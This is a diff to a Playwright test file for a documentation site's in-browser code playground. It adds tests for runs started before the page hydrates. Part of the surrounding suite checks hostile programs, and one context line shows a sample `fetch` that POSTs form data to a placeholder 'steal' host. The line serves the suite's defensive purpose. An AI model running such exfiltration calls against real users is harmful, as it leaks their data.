@@ -4,7 +4,7 @@
 import { deflateRawSync } from 'node:zlib'
 import { expect, type Locator, type Page, test } from '@playwright/test'
 import { HOSTILE_PROGRAMS } from './hostilePrograms.js'
-import { openHydrated } from './hydrated.js'
+import { hydrated, openHydrated } from './hydrated.js'
 
 const ESM = '/docs/playground/esm'
 const CJS = '/docs/playground/cjs'
@@ -43,6 +43,33 @@ function foreignRequests(page: Page): string[] {
   })
   page.on('websocket', (socket) => foreign.push(socket.url()))
   return foreign
+}
+
+const SHELL_FILES = /\/assets\/(?:react|shell)-[^/]*\.js$/
+const APP_FILES = /\/assets\/mount-[^/]*\.js$/
+
+/** Holds files back until the returned function is called. */
+async function holdFiles(page: Page, files: RegExp): Promise<() => void> {
+  let release = () => {}
+  const released = new Promise<void>((resolve) => {
+    release = resolve
+  })
+  await page.route(files, async (route) => {
+    await released
+    await route.continue()
+  })
+  return release
+}
+
+/** Holds hydration back in the next document, with the shell's code already run, until the returned function is called. */
+async function holdHydration(page: Page): Promise<() => Promise<void>> {
+  await page.addInitScript(() => {
+    const { scheduler } = window as unknown as { scheduler: { yield: () => Promise<unknown> } }
+    // The shell yields to the browser once before it hydrates.
+    scheduler.yield = () =>
+      new Promise((resolve) => addEventListener('test:hydrate', resolve, { once: true }))
+  })
+  return () => page.evaluate(() => void dispatchEvent(new Event('test:hydrate')))
 }
 
 /** What the page reports as broken; what a program throws belongs to its own console. */
@@ -280,6 +307,32 @@ await fetch('https://elsewhere.test/steal', { method: 'POST', body: form }).catc
     'No command: the playground reaches https://api.example.com only.',
   )
   await expect(button(results(place), 'Copy as curl')).toHaveCount(0)
+})
+
+test('a Run pressed before hydration runs once the playground is loaded', async ({ page }) => {
+  const releaseShell = await holdFiles(page, SHELL_FILES)
+  const releaseApp = await holdFiles(page, APP_FILES)
+  await page.goto(ESM)
+  const place = block(page, 'first-request')
+  await button(place, 'Run').click()
+  releaseShell()
+  await hydrated(page)
+  releaseApp()
+  await expect(results(place).getByRole('log')).toContainText('201 13')
+})
+
+test('hydration does not stop a program that was started before', async ({ page }) => {
+  const releaseHydration = await holdHydration(page)
+  const code = `await new Promise((resolve) => setTimeout(resolve, 1000))\nconsole.log('over')`
+  await page.goto(linkTo(ESM, { code }))
+  const place = block(page, 'first-request')
+  await expect(place.getByText('Opened from a link.').first()).toBeVisible()
+  await button(place, 'Run').click()
+  await expect(button(place, 'Stop')).toBeVisible()
+  await releaseHydration()
+  await hydrated(page)
+  await expect(results(place).getByRole('log')).toHaveText('over')
+  await expect(place.getByText('Stopped.')).toHaveCount(0)
 })
 
 test('a playground that is left behind is gone, and works again on return', async ({ page }) => {
